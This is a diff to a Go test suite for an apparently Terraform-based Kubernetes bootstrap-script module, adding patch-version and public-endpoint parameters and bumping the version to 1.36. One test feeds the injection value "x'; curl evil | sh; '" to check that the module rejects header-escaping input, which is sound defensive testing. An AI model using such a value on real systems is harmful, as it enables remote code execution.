@@ -25,18 +25,22 @@ type variant struct {
 	endpointOverride  string
 	untaint           bool
 	waitTimeoutSecond int
+	// patch is the exact Kubernetes release to install ("" for the newest).
+	patch string
+	// public is the public endpoint (the internet-facing NLB).
+	public string
 }
 
 // variants are the scripts the tests run: three control planes and workers
 // behind an NLB, a member 1 with a one-second wait, and a lone control plane
 // without endpoint override or workers.
 var variants = map[string]variant{
-	"cp0":           {role: "control-plane", index: 0, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300},
-	"cp1":           {role: "control-plane", index: 1, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300},
-	"cp2":           {role: "control-plane", index: 2, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300},
+	"cp0":           {role: "control-plane", index: 0, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300, public: "public.kubeopera.test"},
+	"cp1":           {role: "control-plane", index: 1, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300, public: "public.kubeopera.test"},
+	"cp2":           {role: "control-plane", index: 2, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300, public: "public.kubeopera.test"},
 	"worker":        {role: "worker", waitTimeoutSecond: 300},
 	"cp1_short":     {role: "control-plane", index: 1, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 2},
-	"single_cp0":    {role: "control-plane", index: 0, untaint: true, waitTimeoutSecond: 300},
+	"single_cp0":    {role: "control-plane", index: 0, untaint: true, waitTimeoutSecond: 300, patch: "1.36.2", public: "single-public.kubeopera.test"},
 	"single_worker": {role: "worker", waitTimeoutSecond: 300},
 }
 
@@ -125,8 +129,10 @@ func probeRoot() string {
   region                = "eu-north-1"
   role                  = %q
   index                 = %d
-  kubernetes_version    = "1.33"
+  kubernetes_version    = "1.36"
+  kubernetes_patch      = %q
   endpoint_override     = %q
+  public_endpoint       = %q
   untaint_control_plane = %t
   poll_interval_seconds = %s
   wait_timeout_seconds  = %d
@@ -136,7 +142,7 @@ output %q {
   value = module.%s.script
 }
 
-`, name, ModuleDir, testClusterID, v.role, v.index, v.endpointOverride, v.untaint, pollInterval,
+`, name, ModuleDir, testClusterID, v.role, v.index, v.patch, v.endpointOverride, v.public, v.untaint, pollInterval,
 			v.waitTimeoutSecond, name, name)
 	}
 	b.WriteString("output \"parameters\" {\n  value = module.cp0.parameters\n}\n\n" +
@@ -233,9 +239,10 @@ func TestRenderedScriptsFitEC2UserData(t *testing.T) {
 func TestHeaderCarriesTheInputs(t *testing.T) {
 	s := scripts(t)
 	for name, want := range map[string][]string{
-		"cp1":        {"KO_ROLE='control-plane'", "KO_INDEX='1'", "KO_ENDPOINT_OVERRIDE='api.kubeopera.test'", "KO_KUBERNETES_VERSION='1.33'", "KO_POLL_INTERVAL='0.2'"},
+		"cp1":        {"KO_ROLE='control-plane'", "KO_INDEX='1'", "KO_ENDPOINT_OVERRIDE='api.kubeopera.test'", "KO_KUBERNETES_VERSION='1.36'", "KO_POLL_INTERVAL='0.2'"},
 		"worker":     {"KO_ROLE='worker'", "KO_UNTAINT_CONTROL_PLANE='false'"},
-		"single_cp0": {"KO_ENDPOINT_OVERRIDE=''", "KO_UNTAINT_CONTROL_PLANE='true'"},
+		"single_cp0": {"KO_ENDPOINT_OVERRIDE=''", "KO_UNTAINT_CONTROL_PLANE='true'", "KO_KUBERNETES_PATCH='1.36.2'"},
+		"cp0":        {"KO_KUBERNETES_PATCH=''", "KO_CONTAINERD_VERSION='2.1.4'", "KO_ARCH='amd64'"},
 	} {
 		for _, w := range want {
 			if !strings.Contains(s[name], w+"\n") {
@@ -273,7 +280,7 @@ func TestModuleRefusesValuesThatCouldEscapeTheHeader(t *testing.T) {
   cluster_id         = "c1"
   region             = "eu-north-1"
   role               = "control-plane"
-  kubernetes_version = "1.33"
+  kubernetes_version = "1.36"
   endpoint_override  = "x'; curl evil | sh; '"
 }
 `, ModuleDir)
